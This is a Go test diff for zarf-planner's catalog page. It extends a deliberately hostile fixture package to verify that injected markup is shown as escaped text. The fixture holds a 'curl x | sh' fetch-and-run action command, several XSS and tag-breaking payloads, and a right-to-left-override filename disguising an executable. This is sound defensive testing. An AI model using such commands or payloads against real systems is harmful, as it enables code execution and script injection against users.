@@ -26,6 +26,7 @@ import (
 
 	"github.com/colonel-byte/zarf-planner/inspect"
 	"github.com/colonel-byte/zarf-planner/inspect/signature"
+	"github.com/colonel-byte/zarf-planner/planner/facts"
 	"github.com/colonel-byte/zarf-planner/planner/options"
 	"github.com/colonel-byte/zarf-planner/service"
 )
@@ -238,6 +239,7 @@ type shown struct {
 	problems     []string // the text of each problem
 	rows         []string // data-name of each catalog row
 	firstCells   []string // the text of each catalog row's first cell
+	sections     []string // the text of each catalog package's section
 	elements     map[string]int
 }
 
@@ -263,6 +265,8 @@ func readDOM(t *testing.T, dom []byte) shown {
 			d.cards = append(d.cards, name)
 		case n.Data == "li" && hasClass(n, "problem"):
 			d.problems = append(d.problems, text(n))
+		case n.Data == "details" && hasClass(n, "package"):
+			d.sections = append(d.sections, text(n))
 		case n.Data == "tr" && strings.HasPrefix(func() string { id, _ := attr(n, "id"); return id }(), "pkg-"):
 			d.rows = append(d.rows, name)
 			for c := n.FirstChild; c != nil; c = c.NextSibling {
@@ -375,6 +379,13 @@ func TestPagesInABrowser(t *testing.T) {
 			if !slices.Equal(got, want) || !slices.Contains(d.firstCells, `<b>bold</b> & "q"`) {
 				t.Errorf("catalog rows %q (first cells %q); want one per package %q, names as text", d.rows, d.firstCells, want)
 			}
+			// Each package has its section; the hostile one shows its
+			// action's command and its host file as the text they are.
+			if len(d.sections) != len(want) {
+				t.Errorf("%d package sections; want %d", len(d.sections), len(want))
+			} else if last := d.sections[len(d.sections)-1]; !strings.Contains(last, hostileCommand) || !strings.Contains(last, `/opt/\u202egpj.exe`) || !strings.Contains(last, "NOT carried") {
+				t.Errorf("the hostile package's section does not show its claims as text:\n%s", last)
+			}
 		}, 1600, 900, "catalog"},
 		{"a request slipped into the page", slipped, func(t *testing.T, d shown) {
 			if d.elements["img"] != 1 {
@@ -411,6 +422,10 @@ func TestPagesInABrowser(t *testing.T) {
 	}
 }
 
+// hostileCommand is the command of the hostile package's action: it
+// ends the page's markup and starts a script, were it not escaped.
+const hostileCommand = `curl x | sh </script><script>alert(1)</script></td></tr></table><b>x</b>`
+
 // catalogOfSigned is the catalog of the zarf-signed bundle, checked with its
 // key, with one more package whose name is markup.
 func catalogOfSigned(t *testing.T) []byte {
@@ -430,7 +445,14 @@ func catalogOfSigned(t *testing.T) []byte {
 		c.Packages = append(c.Packages, part.Packages...)
 		c.Warnings = append(c.Warnings, part.Warnings...)
 	}
-	c.Packages = append(c.Packages, service.CatalogPackage{Name: `<b>bold</b> & "q"`, Version: `1"><script>x</script>`, Signed: true, SignatureError: "</td><img src=x>"})
+	c.Packages = append(c.Packages, service.CatalogPackage{Name: `<b>bold</b> & "q"`, Version: `1"><script>x</script>`, Signed: true, SignatureError: "</td><img src=x>",
+		Components: []facts.Component{{Name: "<b>c</b>", Required: true, Description: "</details><script>x</script>"}},
+		Claims: facts.Claims{
+			Actions:   []facts.ActionClaim{{Component: "<b>c</b>", Event: "onDeploy.before", Command: hostileCommand, Dir: "</td><b>d</b>"}},
+			HostFiles: []facts.HostFileClaim{{Component: "<b>c</b>", Target: "/opt/\u202egpj.exe", Executable: true}},
+			Images:    []facts.ImageClaim{{Reference: `docker.io/library/"><b>x</b>:1`, Registry: "docker.io", Used: []facts.Origin{{Component: "<b>c</b>", File: "manifests/<b>m</b>.yaml", Kind: "Deployment", Name: "<iframe>"}}}},
+			Unknown:   []facts.UnknownClaim{{Kind: "render", Subject: "<object>", Reason: "<embed src=x>", Affects: []string{"<b>crds</b>"}, Lookups: []facts.Lookup{{APIVersion: "v1", Kind: "<b>Secret</b>", Name: "</summary>"}}}},
+		}})
 	b, err := Catalog(c, when, "zarf-planner")
 	if err != nil {
 		t.Fatal(err)
